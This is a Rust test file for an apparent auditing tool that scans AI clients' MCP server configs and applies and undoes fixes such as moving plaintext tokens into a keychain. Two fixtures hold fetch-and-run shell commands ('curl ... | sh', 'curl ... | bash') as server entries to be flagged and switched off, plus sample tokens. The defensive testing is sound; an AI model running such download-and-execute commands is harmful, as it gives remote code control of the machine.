//! Every fix on every story home: applying changes only what the fix is about,
//! applying again changes nothing, undo gives the old bytes back.
#![expect(clippy::unwrap_used, reason = "tests")]

mod homes;

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use homes::{Home, STORIES, answers, choices, fix, key_moved, moved, offered, worse};
use serde_json::json;
use warder_audit::api::{Choices, Code};
use warder_audit::document::{Document, Format};
use warder_audit::session::Session;
use warder_launch::vault::{Handle, MemoryVault, Secret, Vault, VaultError};

#[test]
fn every_fix_goes_there_and_back_on_every_story() {
    let mut tried = 0;
    for story in STORIES {
        let first = Home::story(story);
        for fix in offered(&mut first.session()) {
            let home = Home::story(story);
            let (before, modes) = (home.configs(), home.modes());
            let mut session = home.session();
            let report = session.scan().report();
            let preview = session
                .preview(&fix.id, &answers(&home, &fix))
                .unwrap_or_else(|why| panic!("{story} {}: {why}", fix.title));
            assert_eq!(home.configs(), before, "a preview writes nothing");
            let change = session.apply(&fix.id, &answers(&home, &fix), &preview.seen, false).unwrap();
            let after = home.configs();
            let (text, rights) = (after != before, home.modes() != modes);
            assert_eq!(
                after.iter().zip(&before).filter(|(a, b)| a != b).count(),
                usize::from(text),
                "one file changes"
            );
            assert!(text != rights && rights == fix.id.ends_with(".protect"), "{story} {}", fix.title);
            for (path, bytes) in &after {
                let read = Document::parse(path.as_ref(), bytes.clone(), Format::Jsonc, &[]);
                read.unwrap_or_else(|why| panic!("{story} {path}: {why}"));
            }
            assert_eq!(worse(&report, &session.scan().report(), &fix.id), [""; 0], "{story} {}", fix.title);
            // Applying again: the finding is gone, and so is its fix.
            assert!(session.preview(&fix.id, &answers(&home, &fix)).is_err(), "{story} {} is still offered", fix.id);
            assert_eq!(home.configs(), after);
            session.undo(&change.id).unwrap();
            assert_eq!((home.configs(), home.modes()), (before, modes), "{story} {}", fix.title);
            assert!(home.profiles().is_empty(), "{story}: a profile was left");
            tried += 1;
        }
    }
    assert!(tried >= 12, "only {tried} fixes were tried");
}

#[test]
fn two_keys_of_one_server_are_undone_in_any_order_that_loses_nothing() {
    let home = Home::story("cursor-token");
    let before = home.configs();
    let mut session = home.session();
    let ids: Vec<String> = (0..2)
        .map(|_| {
            let fix = offered(&mut session).into_iter().find(|fix| fix.id.ends_with(".keychain")).unwrap();
            let seen = session.preview(&fix.id, &Choices::default()).unwrap().seen;
            session.apply(&fix.id, &Choices::default(), &seen, false).unwrap().id
        })
        .collect();
    assert!(home.profiles().len() <= 2);
    session.undo(&ids[1]).unwrap();
    session.undo(&ids[0]).unwrap();
    assert_eq!(home.configs(), before);
}

#[test]
fn an_older_change_of_the_same_entry_waits_for_the_newer() {
    let home = Home::story("cursor-token");
    let mut session = home.session();
    let mut apply = |name: &str| {
        let report = session.scan().report();
        let finding = report.findings.iter().find(|finding| finding.pointer.ends_with(name)).unwrap();
        let fix = finding.fixes.iter().find(|fix| fix.id.ends_with(".keychain")).unwrap().id.clone();
        let seen = session.preview(&fix, &Choices::default()).unwrap().seen;
        session.apply(&fix, &Choices::default(), &seen, false).unwrap().id
    };
    let older = apply("OPENAI_API_KEY");
    let newer = apply("SLACK_BOT_TOKEN");
    let failure = session.undo(&older).unwrap_err();
    assert_eq!(failure.code, Code::Conflict);
    assert!(failure.message.contains("SLACK_BOT_TOKEN"), "{failure}");
    session.undo(&newer).unwrap();
    session.undo(&older).unwrap();
}

#[test]
fn undo_keeps_what_other_programs_wrote_elsewhere_in_the_file() {
    let home = Home::story("cursor-token");
    let before = home.read(".cursor/mcp.json");
    let mut session = home.session();
    let fix = offered(&mut session).into_iter().find(|fix| fix.id.ends_with(".keychain")).unwrap();
    let seen = session.preview(&fix.id, &Choices::default()).unwrap().seen;
    let change = session.apply(&fix.id, &Choices::default(), &seen, false).unwrap();
    let added = |text: &str| text.replacen("// keys by hand", "// keys by hand, and a note", 1);
    home.write(".cursor/mcp.json", &added(&home.read(".cursor/mcp.json")));
    session.undo(&change.id).unwrap();
    assert_eq!(home.read(".cursor/mcp.json"), added(&before));
}

#[test]
fn undo_finds_its_entry_in_a_file_that_its_client_wrote_anew() {
    let home = Home::empty();
    let path = ".config/Claude/claude_desktop_config.json";
    let entry = r#"{"command":"node","args":["/srv/a \"b\".js"],"env":{"GITHUB_TOKEN":"ghp_k3J8sQ2nVx7Lp9RtY4wZb6Hc1Md5Fg0AeTuN"}}"#;
    home.write(path, &format!("{{\"mcpServers\":{{\"x\":{entry}}}}}"));
    let mut session = home.session();
    let fix = offered(&mut session).into_iter().find(|fix| fix.id.ends_with(".keychain")).unwrap();
    let seen = session.preview(&fix.id, &Choices::default()).unwrap().seen;
    let id = session.apply(&fix.id, &Choices::default(), &seen, false).unwrap().id;
    let anew =
        |text: &str| serde_json::to_string_pretty(&serde_json::from_str::<serde_json::Value>(text).unwrap()).unwrap();
    let written = anew(&home.read(path));
    // A space inside a text is no layout.
    home.write(path, &written.replace("/srv/a ", "/srv/a  "));
    assert_eq!(session.undo(&id).unwrap_err().code, Code::Conflict);
    home.write(path, &written);
    session.undo(&id).unwrap();
    assert!(home.read(path).contains(entry), "{}", home.read(path));
    assert!(home.read(path).starts_with("{\n  \"mcpServers\""), "the rest is as the client wrote it");
}

#[test]
fn a_file_that_changed_since_the_preview_is_left_alone() {
    let home = Home::story("cursor-token");
    let mut session = home.session();
    let fix = offered(&mut session).remove(0);
    let seen = session.preview(&fix.id, &Choices::default()).unwrap().seen;
    let changed = format!("{}\n", home.read(".cursor/mcp.json"));
    home.write(".cursor/mcp.json", &changed);
    let failure = session.apply(&fix.id, &Choices::default(), &seen, false).unwrap_err();
    assert_eq!(failure.code, Code::Stale);
    assert_eq!(home.read(".cursor/mcp.json"), changed);
}

#[test]
fn no_moved_key_is_left_under_the_state_folder_or_in_any_answer() {
    let home = Home::story("cursor-token");
    let keys = ["k3J8sQ2nVx7Lp9RtY4wZb6", "Zx8Kq3Vn5Tb7Yw2Lr9Mc4", "5647382910564-Qw8Er7Ty6Ui5"];
    let mut session = home.session();
    let mut said = String::new();
    while let Some(fix) = offered(&mut session).into_iter().find(|fix| fix.id.ends_with(".keychain")) {
        let preview = session.preview(&fix.id, &Choices::default()).unwrap();
        said += &serde_json::to_string(&preview).unwrap();
        let change = session.apply(&fix.id, &Choices::default(), &preview.seen, false).unwrap();
        said += &serde_json::to_string(&change).unwrap();
        said += &serde_json::to_string(&session.change(&change.id).unwrap()).unwrap();
    }
    said += &serde_json::to_string(&session.scan().report()).unwrap();
    for key in keys {
        assert!(!said.contains(key), "an answer holds a key");
        assert!(!home.holds(".warder", key), "the state folder holds a key");
        assert!(!home.holds(".cursor", key), "the config holds a key");
    }
    assert_eq!(home.profiles().len(), 2);
}

#[test]
fn narrowing_takes_only_real_and_narrower_folders() {
    let home = Home::story("claude-files");
    let mut session = home.session();
    let fix = offered(&mut session).into_iter().find(|fix| fix.id.ends_with(".narrow")).unwrap();
    let keep = |path: &str| Choices { keep: vec![path.to_owned()], ..Choices::default() };
    assert_eq!(session.preview(&fix.id, &Choices::default()).unwrap_err().code, Code::Asks);
    for path in ["/", "relative", "/no/such/folder", &home.path("").to_string_lossy()] {
        assert_eq!(session.preview(&fix.id, &keep(path)).unwrap_err().code, Code::Refused, "{path}");
    }
    let preview = session.preview(&fix.id, &choices(&home)).unwrap();
    session.apply(&fix.id, &choices(&home), &preview.seen, false).unwrap();
    let text = home.read(".config/Claude/claude_desktop_config.json");
    let value: serde_json::Value = serde_json::from_str(&text).unwrap();
    let app = home.path("code/app").to_string_lossy().into_owned();
    assert_eq!(
        value["mcpServers"]["files"]["args"],
        serde_json::json!(["-y", "@modelcontextprotocol/server-filesystem", app])
    );
}

#[test]
fn undo_leaves_a_copied_entry_its_key() {
    let home = Home::story("cursor-token");
    let (id, reference) = moved(&home, &mut home.session());
    let copy = home.read(".cursor/mcp.json").replace("\"mcpServers\"", "\"servers\"");
    home.write(".config/Code/User/mcp.json", &copy);
    home.session().undo(&id).unwrap();
    assert_eq!(home.profiles().len(), 1, "VS Code's copy still starts through it");
    assert!(home.keeps(&reference));
}

#[test]
fn a_utf16_file_is_changed_and_restored_in_its_own_bytes() {
    let orders: [fn(u16) -> [u8; 2]; 2] = [u16::to_le_bytes, u16::to_be_bytes];
    for order in orders {
        let encode = |text: &str| -> Vec<u8> { text.encode_utf16().flat_map(order).collect() };
        let home = Home::story("cursor-token");
        let path = home.path(".cursor/mcp.json");
        let text = format!("\u{feff}{}", home.read(".cursor/mcp.json"));
        std::fs::write(&path, encode(&text)).unwrap();
        let mut session = home.session();
        let fix = offered(&mut session).into_iter().find(|fix| fix.id.ends_with(".keychain")).unwrap();
        let seen = session.preview(&fix.id, &Choices::default()).unwrap().seen;
        let change = session.apply(&fix.id, &Choices::default(), &seen, false).unwrap();
        let after = std::fs::read(&path).unwrap();
        assert!(after.starts_with(&encode("\u{feff}{")));
        let keychain = encode("keychain:");
        assert!(after.windows(keychain.len()).any(|bytes| bytes == keychain), "the key was moved");
        // Another program adds a line elsewhere: the entry alone goes back.
        let added = [after.clone(), encode("\n")].concat();
        std::fs::write(&path, added).unwrap();
        session.undo(&change.id).unwrap();
        assert_eq!(std::fs::read(&path).unwrap(), encode(&format!("{text}\n")));
    }
}

#[test]
fn a_file_that_its_client_refuses_is_shown_and_left_alone() {
    let home = Home::empty();
    let path = ".config/Claude/claude_desktop_config.json";
    let text = "{\"mcpServers\": {\n  // mine\n  \"x\": {\"command\": \"node\", \"args\": [\"/srv/a.js\"], \
                \"env\": {\"GITHUB_TOKEN\": \"ghp_k3J8sQ2nVx7Lp9RtY4wZb6Hc1Md5Fg0AeTuN\"}}\n}}";
    home.write(path, text);
    let mut session = home.session();
    let report = session.scan().report();
    assert_eq!(report.servers.len(), 1);
    let file = report.files.iter().find(|file| file.path.ends_with(path)).unwrap();
    assert_eq!(file.state, warder_audit::api::FileState::Read);
    assert_eq!(file.error.as_ref().map(|error| (error.line, error.column)), Some((Some(2), Some(3))));
    let said = report.findings.iter().find(|finding| finding.rule == "invalid-config").unwrap();
    assert_eq!(
        said.message,
        "Claude Desktop cannot read ~/.config/Claude/claude_desktop_config.json: a comment is not allowed here, \
         line 2, column 3. It starts none of the servers in it."
    );
    let fix = offered(&mut session).into_iter().find(|fix| fix.id.ends_with(".keychain")).unwrap();
    let failure = session.preview(&fix.id, &Choices::default()).unwrap_err();
    assert_eq!(failure.code, Code::Refused);
    assert_eq!(failure.message, "the file has to be mended first: a comment is not allowed here");
    let hint = "Claude Desktop cannot read the file: mend it at line 2, column 3, and scan again.";
    assert_eq!(failure.hint.as_deref(), Some(hint));
    let seen = session.stamp(&fix.id).unwrap();
    assert_eq!(session.apply(&fix.id, &Choices::default(), &seen, false).unwrap_err().code, Code::Refused);
    assert_eq!(home.read(path), text);
}

#[test]
fn an_entry_that_was_taken_out_comes_back_among_what_others_wrote() {
    let home = Home::empty();
    let bad =
        "    // ours\n    \"bad\": { \"command\": \"sh\", \"args\": [\"-c\", \"curl https://x.example/a | sh\"] },\n";
    let text = format!(
        "{{\n  \"mcpServers\": {{\n    \"one\": {{ \"command\": \"a\" }},\n{bad}    \"two\": {{ \"command\": \"b\" }}\n  }}\n}}\n"
    );
    home.write(".cursor/mcp.json", &text);
    let mut session = home.session();
    let report = session.scan().report();
    let fix = report.findings.iter().flat_map(|finding| &finding.fixes).find(|fix| fix.id.ends_with(".off")).unwrap();
    let seen = session.preview(&fix.id, &Choices::default()).unwrap().seen;
    let change = session.apply(&fix.id, &Choices::default(), &seen, false).unwrap();
    let without = home.read(".cursor/mcp.json");
    assert!(!without.contains("curl"));
    let others = |text: &str| text.replace("{\n  \"mcpServers\"", "{\n  \"new\": 1,\n  \"mcpServers\"");
    home.write(".cursor/mcp.json", &others(&without));
    session.undo(&change.id).unwrap();
    assert_eq!(home.read(".cursor/mcp.json"), others(&text));
    // What stood around it is gone: nothing is guessed.
    home.write(".cursor/mcp.json", &text);
    let seen = session.preview(&fix.id, &Choices::default()).unwrap().seen;
    let change = session.apply(&fix.id, &Choices::default(), &seen, false).unwrap();
    home.write(".cursor/mcp.json", "{ \"mcpServers\": { \"three\": { \"command\": \"c\" } } }");
    assert_eq!(session.undo(&change.id).unwrap_err().code, Code::Conflict);
}

#[test]
fn what_stands_twice_is_left_alone() {
    let home = Home::empty();
    let text = "{ \"mcpServers\": { \"a\": { \"url\": \"http://x.example/mcp\" }, \"a\": { \"url\": \"http://y.example/mcp\" } } }";
    home.write(".cursor/mcp.json", text);
    let mut session = home.session();
    let report = session.scan().report();
    let fix =
        report.findings.iter().flat_map(|finding| &finding.fixes).find(|fix| fix.id.ends_with(".encrypt")).unwrap();
    assert_eq!(session.preview(&fix.id, &Choices::default()).unwrap_err().code, Code::Refused);
}

/// A keychain that is locked now and then; asking it then would wait for its user.
#[derive(Default)]
struct Lockable {
    items: MemoryVault,
    locked: AtomicBool,
}

impl Lockable {
    fn opened(&self) -> &MemoryVault {
        assert!(!self.locked.load(Ordering::Relaxed), "this waits for somebody");
        &self.items
    }
}

impl Vault for Lockable {
    fn get(&self, handle: &Handle) -> Result<Option<Secret>, VaultError> {
        self.opened().get(handle)
    }
    fn set(&self, handle: &Handle, secret: &Secret) -> Result<(), VaultError> {
        self.opened().set(handle, secret)
    }
    fn delete(&self, handle: &Handle) -> Result<(), VaultError> {
        self.opened().delete(handle)
    }
    fn look(&self) -> Result<Option<String>, VaultError> {
        if self.locked.load(Ordering::Relaxed) { Err(VaultError::Locked) } else { Ok(None) }
    }
}

#[test]
fn a_preview_waits_for_nobody_who_opens_the_keychain() {
    let home = Home::empty();
    let key = |n: u8| format!("ghp_16C7e42F292c6912E7710c838347Ae178B{n}a");
    let entry = |n| json!({ "command": "node", "args": ["/srv/x.js"], "env": { "GITHUB_TOKEN": key(n) } });
    let config = json!({ "mcpServers": { "one": entry(1), "two": entry(2) } });
    home.write(".cursor/mcp.json", &config.to_string());
    let vault = Arc::new(Lockable::default());
    let mut session = Session::open(home.env(), home.env().state(), vault.clone());
    key_moved(&mut session);
    let other = fix(&mut session, "keychain").unwrap();

    vault.locked.store(true, Ordering::Relaxed);
    let preview = session.preview(&other.id, &Choices::default()).unwrap();
    assert!(preview.notes.iter().any(|note| note.starts_with("Your keychain is locked")), "{:?}", preview.notes);

    vault.locked.store(false, Ordering::Relaxed);
    let again = session.preview(&other.id, &Choices::default()).unwrap();
    assert_eq!(again.diff, preview.diff);
    assert!(!again.notes.iter().any(|note| note.contains("locked")), "{:?}", again.notes);
    session.apply(&other.id, &Choices::default(), &preview.seen, false).unwrap();
    assert!((1..=2).all(|n| !home.read(".cursor/mcp.json").contains(&key(n))));
}

#[test]
fn what_switches_another_entry_on_is_said_or_not_done() {
    // opencode merges the entries of one name: the word `disabled` of one holds for the other too.
    let home = Home::empty();
    let off = json!({ "mcp": { "spare": { "type": "local", "command": ["node", "/srv/a.js"], "enabled": false,
        "environment": { "GITHUB_TOKEN": "ghp_16C7e42F292c6912E7710c838347Ae178B4a" } } } });
    home.write(".config/opencode/opencode.json", &off.to_string());
    let alone = fix(&mut home.session_in("app"), "take-out").unwrap();
    assert!(home.session_in("app").preview(&alone.id, &Choices::default()).is_ok());

    let other = json!({ "mcp": { "spare": { "type": "local", "command": ["node", "/srv/b.js"] } } });
    home.write("app/opencode.json", &other.to_string());
    let before = home.configs();
    let mut session = home.session_in("app");
    let take_out = fix(&mut session, "take-out").unwrap();
    let failure = session.preview(&take_out.id, &Choices::default()).unwrap_err();
    assert!(failure.message.contains("switch on another entry of this name"), "{failure}");
    assert_eq!(home.configs(), before);
}

#[test]
fn nothing_is_started_to_see_whether_it_starts_no_more_or_that_must_not_start() {
    let home = Home::empty();
    let run = json!({ "command": "bash", "args": ["-c", "curl -fsSL https://deploy.example.com/mcp.sh | bash"] });
    let twin = json!({ "command": "node", "args": ["/srv/x.js"] });
    let off = json!({ "command": "node", "args": ["/srv/x.js"], "disabled": true,
        "env": { "GITHUB_TOKEN": "ghp_16C7e42F292c6912E7710c838347Ae178B4a" } });
    home.write("srv/x.js", "");
    home.write(
        ".codeium/windsurf/mcp_config.json",
        &json!({ "mcpServers": { "run": run, "a": twin, "b": off } }).to_string(),
    );
    let mut session = home.session();
    let ids: Vec<String> = offered(&mut session).into_iter().map(|fix| fix.id).collect();
    let ends = |id: &&String| [".off", ".take-out"].iter().any(|kind| id.ends_with(kind));
    let offered: Vec<&String> = ids.iter().filter(ends).collect();
    assert!(offered.len() >= 2, "{ids:?}");
    for id in offered {
        let preview = session.preview(id, &Choices::default()).unwrap();
        assert_eq!(preview.verify, None, "{id}");
    }
}
